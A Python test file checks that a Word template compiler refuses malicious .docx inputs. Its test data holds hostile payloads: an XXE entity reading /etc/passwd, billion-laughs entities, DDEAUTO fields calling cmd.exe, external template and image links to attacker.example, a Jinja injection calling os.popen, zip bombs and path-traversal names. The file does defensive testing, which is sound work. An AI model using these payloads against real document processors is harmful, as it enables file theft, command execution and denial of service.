"""Files that attack: each is refused with a clear sentence, before anything of it is used."""

import io
import struct
import zipfile

import pytest

from documents.wordfile import changed, part, related, rendered, with_body, with_lines
from workflow.documents import package
from workflow.documents.compile import compile_template
from workflow.documents.sandbox import FILTERS
from workflow.errors import InputError

PLAIN = with_lines("{{ x }}")
XXE = '<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'


def refusal(data):
    with pytest.raises(InputError) as caught:
        compile_template(data)
    assert caught.value.message
    assert caught.value.message.endswith(
        ("。", "能打开。", "读不了：请用 Word 或 WPS 打开后重新保存。")
    )
    return caught.value.code


def with_doctype(doctype):
    return changed(
        PLAIN,
        {"word/document.xml": lambda text: text.replace("<w:document", doctype + "<w:document", 1)},
    )


@pytest.mark.parametrize("doctype", [XXE, LAUGHS, "<!DOCTYPE w>"])
def test_document_types_and_entities(doctype):
    assert refusal(with_doctype(doctype)) == "docx.entities"


def test_a_document_type_hidden_by_another_encoding():
    text = part(PLAIN).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    text = text.replace("<w:document", LAUGHS + "<w:document", 1)
    data = changed(PLAIN, {"word/document.xml": text.encode("utf-16")})
    assert refusal(data) == "docx.entities"


def test_entities_in_a_relationship_part():
    data = changed(PLAIN, {"word/_rels/document.xml.rels": (LAUGHS + "<Relationships/>").encode()})
    assert refusal(data) == "docx.entities"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://attacker.example/evil.dotm"),
        ("attachedTemplate", "file://///attacker/share/evil.dotm"),
        ("image", "http://attacker.example/pixel.png"),
        ("oleObject", "http://attacker.example/object"),
        ("frame", "http://attacker.example/frame.html"),
        ("subDocument", "file:///etc/passwd"),
        ("hyperlink", "file://///attacker/share"),
        ("hyperlink", "javascript:alert(1)"),
    ],
)
def test_what_is_fetched_from_outside(kind, target):
    assert refusal(related(PLAIN, kind, target)) == "docx.external"


@pytest.mark.parametrize("target", ["https://www.example.gov.cn/", "mailto:office@example.gov.cn"])
def test_a_link_that_only_a_reader_follows_may_stay(target):
    assert compile_template(related(PLAIN, "hyperlink", target)).tags


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("word/vbaProject.bin", "docx.macros"),
        ("word/vbaData.xml", "docx.macros"),
        ("word/embeddings/oleObject1.bin", "docx.embedded"),
        ("word/activeX/activeX1.bin", "docx.embedded"),
        ("customUI/customUI.xml", "docx.embedded"),
    ],
)
def test_parts_that_act(name, code):
    assert refusal(changed(PLAIN, {name: b"x"})) == code


def test_a_macro_document_under_another_name():
    data = changed(
        PLAIN,
        {
            "[Content_Types].xml": lambda text: text.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )
    assert refusal(data) == "docx.macros"


@pytest.mark.parametrize("kind", ["vbaProject", "oleObject", "package", "control", "aFChunk"])
def test_relationships_to_parts_that_act(kind):
    assert refusal(related(PLAIN, kind, "part.bin", outside=False)) == "docx.embedded"


def field(*instructions):
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return begin + runs + end


@pytest.mark.parametrize(
    "xml",
    [
        field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k"),
        field(" DD", "EAUTO cmd"),
        field(' INCLUDEPICTURE "http://attacker.example/x.png"'),
        field(' INCLUDETEXT "file:///etc/passwd"'),
        field(" MACROBUTTON Evil Click"),
        field(' IMPORT "x"'),
        field(' LINK Excel.Sheet.8 "x"'),
        field(' HYPERLINK "file:///etc/passwd"'),
        field(field(" QUOTE 68 68 69"), " cmd"),
        '<w:fldSimple w:instr="DDE cmd"/>',
    ],
)
def test_fields_that_fetch_or_run(xml):
    assert refusal(with_body(f"<w:p>{xml}</w:p>")) == "docx.active_field"


def test_fields_of_page_numbers_may_stay():
    xml = field(" PAGE ") + field(' HYPERLINK "https://www.example.gov.cn/"')
    assert compile_template(with_body(f"<w:p>{xml}</w:p>")).sha256


CODE = [
    "{{ ''.__class__ }}",
    "{{ x.__init__ }}",
    "{{ x._private }}",
    "{{ _rounds }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ x() }}",
    "{{ x.append(1) }}",
    "{{ range(9999999) }}",
    "{{ 'a' * 1000000000 }}",
    "{{ 10 ** 10 }}",
    "{{ x[0] }}",
    "{{ x | attr('__class__') }}",
    "{{ '%s' | format(x) }}",
    "{{ x | map('upper') }}",
    "{{ x | pprint }}",
    "{{ x | join(**y) }}",
    "{{ x is callable }}",
    "{{ lipsum() }}",
    "{{ {'a': 1} }}",
    "{% if x.__class__ %}{% endif %}",
    "{% if x() %}{% endif %}",
]


@pytest.mark.parametrize("tag", CODE)
def test_code_in_a_tag(tag):
    assert refusal(with_lines(tag)) == "template.forbidden"


@pytest.mark.parametrize(
    "tag",
    [
        *("{% set a = 1 %}", "{% include 'x' %}", "{% import 'os' as os %}", "{% macro m() %}"),
        *("{% extends 'x' %}", "{% call x() %}", "{% raw %}", "{% do x %}", "{% block x %}"),
    ],
)
def test_statements_that_are_not_conditions_and_loops(tag):
    assert refusal(with_lines(tag)) == "template.unknown_block"


@pytest.mark.parametrize(
    "loop",
    [
        *("for x in range(9)", "for x in y recursive", "for x in y if x()", "for x in 'abc'"),
        *("for _held in y", "for x in y | sort", "for x, y in z"),
    ],
)
def test_loops_over_anything_but_a_list_field(loop):
    assert refusal(with_lines(f"{{% {loop} %}}", "{% endfor %}")) == "template.loop"


def test_a_hidden_attribute_in_a_loop():
    assert refusal(with_lines("{% for x in y.__dict__ %}{% endfor %}")) == "template.forbidden"


def test_values_have_no_methods_and_no_attributes():
    for attribute in ("upper", "real", "items"):
        with pytest.raises(InputError, match=attribute):
            rendered(with_lines(f"{{{{ x.{attribute} }}}}"), x={"own": 1})
        with pytest.raises(InputError, match=attribute):
            rendered(with_lines(f"{{{{ x.{attribute} }}}}"), x="text")


def test_a_fields_value_is_never_read_as_a_template():
    made = rendered(with_lines("{{ x }}"), x="{{ 7 * 7 }}\x01{ 7 }\x02")
    assert b"{{ 7 * 7 }}{ 7 }" in part(made)


def test_only_known_filters_exist():
    assert set(FILTERS) == {"join", "length", "first", "last", "trim", "date"}


def test_a_zip_bomb_by_its_ratio():
    assert refusal(changed(PLAIN, {"word/media/x.bin": bytes(9 * 1024 * 1024)})) == "docx.bomb"


def test_a_zip_bomb_by_its_size(monkeypatch):
    monkeypatch.setattr(package, "MAX_UNPACKED", 1000)
    assert refusal(with_lines("{{ size }}")) == "docx.bomb"


def test_a_zip_that_lies_about_a_size():
    data = bytearray(PLAIN)
    name = b"word/document.xml"
    at = data.rindex(name) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    struct.pack_into("<L", data, at + 24, 10)
    assert refusal(bytes(data)) == "docx.damaged"


def test_too_many_parts():
    data = changed(PLAIN, {f"word/media/{number}": b"" for number in range(package.MAX_ENTRIES)})
    assert refusal(data) == "docx.too_many_parts"


def test_a_file_that_is_too_big():
    assert refusal(bytes(package.MAX_FILE + 1)) == "docx.too_big"


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/evil", "word\\evil.xml", "C:evil.xml"])
def test_names_that_climb_out(name):
    assert refusal(changed(PLAIN, {name: b"x"})) == "docx.unsafe_part"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_part_twice():
    file = io.BytesIO(PLAIN)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("word/document.xml", b"other")
    assert refusal(file.getvalue()) == "docx.twice"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "docx.not_docx"),
        (b"plain text", "docx.not_docx"),
        (b"PK\x03\x04 half", "docx.not_docx"),
        (PLAIN[: len(PLAIN) // 2], "docx.not_docx"),
        (b"\xd0\xcf\x11\xe0 old word", "docx.old_word"),
    ],
)
def test_what_is_no_word_file(data, code):
    assert refusal(data) == code


def test_another_zip():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    assert refusal(file.getvalue()) == "docx.not_docx"


def test_broken_xml():
    data = changed(PLAIN, {"word/document.xml": b"<w:document"})
    assert refusal(data) == "docx.broken_part"


def test_strict_open_xml_is_told_apart():
    strict = b'<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'
    assert refusal(changed(PLAIN, {"word/document.xml": strict})) == "docx.strict"


def test_a_flipped_bit():
    data = bytearray(PLAIN)
    data[data.index(b"word/document.xml") + 60] ^= 0xFF
    assert refusal(bytes(data)) == "docx.damaged"
